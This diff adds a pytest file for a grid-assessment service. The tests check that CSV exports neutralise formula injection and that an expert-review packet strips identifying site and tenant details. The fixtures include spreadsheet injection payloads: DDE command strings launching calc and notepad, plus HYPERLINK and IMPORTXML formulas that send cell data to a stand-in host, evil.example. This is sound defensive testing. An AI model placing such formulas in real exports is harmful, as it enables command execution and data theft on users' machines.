@@ -1,0 +1,121 @@
+"""Exports: formula injection neutralised in every CSV cell, and the expert-review packet
+blinded, both proved with hostile and identifying values sent through the HTTP API.
+
+The hostile values go in through the site (reference, metadata, address) and through the
+public data the assessment quotes (queue project names and points of interconnection,
+transmission project titles, utility names), as a poisoned harvest would bring them.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from conftest import ALPHA, create_assessment, create_export, create_site
+from fastapi.testclient import TestClient
+
+from gridservice.app import create_app
+from gridservice.settings import Settings
+from gridservice.store.db import connect
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_DATA = {
+    ("queue_records", "$.projectName"): '=HYPERLINK("http://evil.example/x","open")',
+    ("queue_records", "$.pointOfInterconnection"): "@SUM(A1:A9)",
+    ("transmission_projects", "$.title"): "+cmd|' /C calc'!A0",
+    ("service_territories", "$.utility"): "-2+3+cmd|' /C notepad'!A0",
+}
+
+
+@pytest.fixture(scope="module")
+def service(store_copy):
+    conn = connect(store_copy)
+    with conn:
+        for (table, path), value in HOSTILE_DATA.items():
+            conn.execute(f"UPDATE {table} SET body = json_set(body, ?, ?)", (path, value))
+    conn.close()
+    app = create_app(Settings(db_path=store_copy, demo=True, secret_key=b"e" * 32))
+    with TestClient(app, raise_server_exceptions=False) as client:
+        yield client
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def test_every_csv_cell_is_neutralised_with_hostile_site_and_data_values(service):
+    site = create_site(
+        service,
+        ALPHA,
+        customerReference="=1+1",
+        metadata={"@owner": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'},
+        address={"addressLine1": "+44 Formula Street", "locality": "\tTabtown"},
+    )
+    assessment = create_assessment(service, ALPHA, site["id"])
+    export = create_export(service, ALPHA, assessment["id"])
+    assert export["contentType"] == "text/csv; charset=utf-8"
+
+    cells = csv_cells(export["content"])
+    assert len(cells) > 40
+    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert dangerous == []
+    # The poisoned data was exercised: it reached the export, neutralised.
+    quoted = {value for value in HOSTILE_DATA.values() if "'" + value in cells}
+    assert len(quoted) >= 3, quoted
+    # The client's site fields never enter the export at all.
+    assert "IMPORTXML" not in export["content"] and "Formula Street" not in export["content"]
+
+
+IDENTIFYING = {
+    "customerReference": "ACME-REF-77310",
+    "metadata": {"crmAccount": "acct-5501-bluebird", "owner": "jane.doe@acme.example"},
+    "address": {
+        "addressLine1": "1234 Hidden Valley Road",
+        "addressLine2": "Building 99-Q",
+        "locality": "Secretville",
+        "postalCode": "78799-4321",
+    },
+}
+
+
+def test_the_packet_carries_no_identifying_value_of_the_site_or_tenant(service):
+    site = create_site(
+        service,
+        ALPHA,
+        **IDENTIFYING,
+        # The same values hidden inside the opaque engineering fields a reviewer does see.
+        rampProfile=[{"step": 1, "mw": 20, "note": "for ACME-REF-77310"}],
+        onSiteGeneration=[{"kind": "gas", "mw": 10, "ownerRef": "acct-5501-bluebird"}],
+        energyStorage={"mwh": 40, "site": "1234 Hidden Valley Road, Secretville"},
+    )
+    assessment = create_assessment(service, ALPHA, site["id"])
+    response = service.get(f"/v1/assessments/{assessment['id']}/expert-review.json", headers=ALPHA)
+    assert response.status_code == 200
+    raw = response.content.decode("utf-8").lower()
+    identifying = [
+        "demo-alpha",
+        site["id"],
+        assessment["id"],
+        IDENTIFYING["customerReference"],
+        *IDENTIFYING["metadata"].values(),
+        *IDENTIFYING["address"].values(),
+    ]
+    leaked = [value for value in identifying if value.lower() in raw]
+    assert leaked == []
+    # Scrubbed, not dropped: the engineering values around the identifying text remain.
+    packet = response.json()["data"]
+    assert packet["site"]["rampProfile"][0]["mw"] == 20
+    assert packet["site"]["energyStorage"]["mwh"] == 40
+
+
+def test_the_packet_still_lets_an_expert_review_the_engineering(service):
+    site = create_site(service, ALPHA, **IDENTIFYING, serviceVoltageKv=345.0)
+    assessment = create_assessment(service, ALPHA, site["id"])
+    packet = service.get(
+        f"/v1/assessments/{assessment['id']}/expert-review.json", headers=ALPHA
+    ).json()["data"]
+    assert packet["site"]["requestedPeakLoadMw"] == site["requestedPeakLoadMw"]
+    assert packet["site"]["serviceVoltageKv"] == 345.0
+    assert packet["serviceAssessment"]["readiness"] == assessment["readiness"]
+    assert packet["caseId"].startswith("case_") and assessment["id"] not in packet["caseId"]
